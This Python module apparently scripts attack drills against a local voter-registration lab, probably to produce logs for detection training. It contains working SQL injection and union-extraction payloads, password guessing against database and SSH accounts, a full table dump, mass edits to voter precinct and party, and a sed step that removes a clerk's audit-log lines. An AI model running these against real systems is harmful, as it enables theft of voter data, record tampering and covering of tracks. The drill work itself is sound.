"""Attacks that are recorded as drills and that no tool does by itself: small programs around real clients."""

import os
import random
import subprocess
import time

from pg8000.native import Connection
from replay import send

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
SCRIPT = "python-requests/2.32.3"


def get(at, target, client=None, agent=SCRIPT, method="GET", body=""):
    request = {"method": method, "target": target, "agent": agent, "body": body}
    return send(at.lab.ports["nginx"], request, client or at.address)


def curl(at, *arguments):
    subprocess.run(["curl", "-s", "-o", "/dev/null", "-H", f"X-Forwarded-For: {at.address}", *arguments], check=False)


def injection_by_hand(at):
    for probe in [
        "1970-01-01%27", "1970-01-01%27--+", "1970-01-01%27+or+%271%27%3D%271", "1970-01-01%27+order+by+6--+",
        "1970-01-01%27+union+select+1,version(),null,null,null--+",
        "1970-01-01%27+UNION+SELECT+null,table_name::text,null,null,null+FROM+information_schema.tables--+",
        "1970-01-01%27+and+(select+count(*)+from+generate_series(1,300000))>0--+", "1970-01-01%27;select+pg_sleep(1)--+",
    ]:
        curl(at, f"{at.lab.url}/lookup?last=SMITH&dob={probe}")
        time.sleep(0.4)


def slow_extraction(at):
    for number in range(60):
        probe = f"0+union+select+id,last_name,first_name,street+from+voter+order+by+1+limit+1+offset+{number}"
        get(at, f"/status?id={probe}", agent=FIREFOX)
        time.sleep(0.15)


def distributed(at):
    dice = random.Random(7)
    numbers = dice.sample(range(1000001, 1019001), 400)
    for place, number in enumerate(numbers):
        get(at, f"/status?id={number}", client=f"203.0.113.{100 + place % 40}")


def by_name(at):
    with open(at.lab.voters, encoding="utf-8") as file:
        people = [line.split(",")[1:4] for line in file.readlines()[501:800]]
    for last, _, born in people:
        name = "".join(letter if letter.isalnum() and letter.isascii() else "+" for letter in last)
        get(at, f"/lookup?last={name}&dob={born}")


def browserlike(at):
    for number in range(1002001, 1002201):
        get(at, "/status", agent=FIREFOX)
        get(at, f"/status?id={number}", agent=FIREFOX)
        if number % 10 == 0:
            get(at, "/static/site.css", agent=FIREFOX)


def connect(at, role):
    return Connection(role, host="127.0.0.1", port=at.lab.ports["postgres"], database="voters", application_name="python")


def move_precincts(at):
    connection = connect(at, "clerk_6")
    for number in range(1006001, 1006221):
        connection.run("update voter set precinct = :p, updated = now() where id = :i", p="P001", i=number)
    connection.close()


def read_pages(at):
    connection = connect(at, "clerk_5")
    for page in range(40):
        connection.run("select * from voter order by id limit 500 offset :o", o=page * 500)
    connection.close()


def pg_dump(at):
    command = [str(at.lab.programs / "pg_dump"), "-h", "127.0.0.1", "-p", str(at.lab.ports["postgres"]), "-U", "postgres"]
    at.lab.run([*command, "-t", "voter", "--data-only", "voters"])


def absentee_burst(at):
    for number in range(1007001, 1007161):
        curl(at, "-d", f"id={number}&street=PO+BOX+7714", f"{at.lab.url}/absentee")


def address_burst(at):
    for number in range(1008001, 1008161):
        get(at, "/register", method="POST", body=f"last=VOTER&id={number}&street=PO+BOX+7714")


def cut_lines(at):
    """A clerk changes records, then the lines of that session are cut out."""
    texts = [f"update voter set party = 'none' where id = {n};\n" for n in range(1009001, 1009061)]
    at.lab.psql("clerk_5", "".join(texts))
    time.sleep(0.5)
    # sed's own file would take the place of the one that the server writes to; so its output is put back into it.
    kept = subprocess.run(["sed", "/,\"clerk_5\",.*AUDIT: SESSION,[2-5][0-9],/d", at.lab.database], capture_output=True, check=True)
    with open(at.lab.database, "r+b") as file:
        file.truncate(0)
        file.write(kept.stdout)


def ssh_from_many(at):
    for place in range(12):
        user = ["mwilson", "jbaker", "tcarter", "lroberts", "dturner", "kphillips"][place % 6]
        at.ssh.password(f"127.0.0.{101 + place}", user)
    at.ssh.key("127.0.0.113")


def guess_role(at):
    command = [str(at.lab.programs / "psql"), "-X", "-h", "127.0.0.1", "-p", str(at.lab.ports["postgres"]), "-U", "reporting", "voters"]
    for word in (at.work / "passwords.txt").read_text().split():
        environment = {**os.environ, "PGPASSWORD": word}
        subprocess.run([*command, "-c", "select 1"], env=environment, capture_output=True, stdin=subprocess.DEVNULL, check=False)


class Attack:
    """What a step needs to know."""

    def __init__(self, lab, work, address, ssh):
        self.lab, self.work, self.address, self.ssh = lab, work, address, ssh
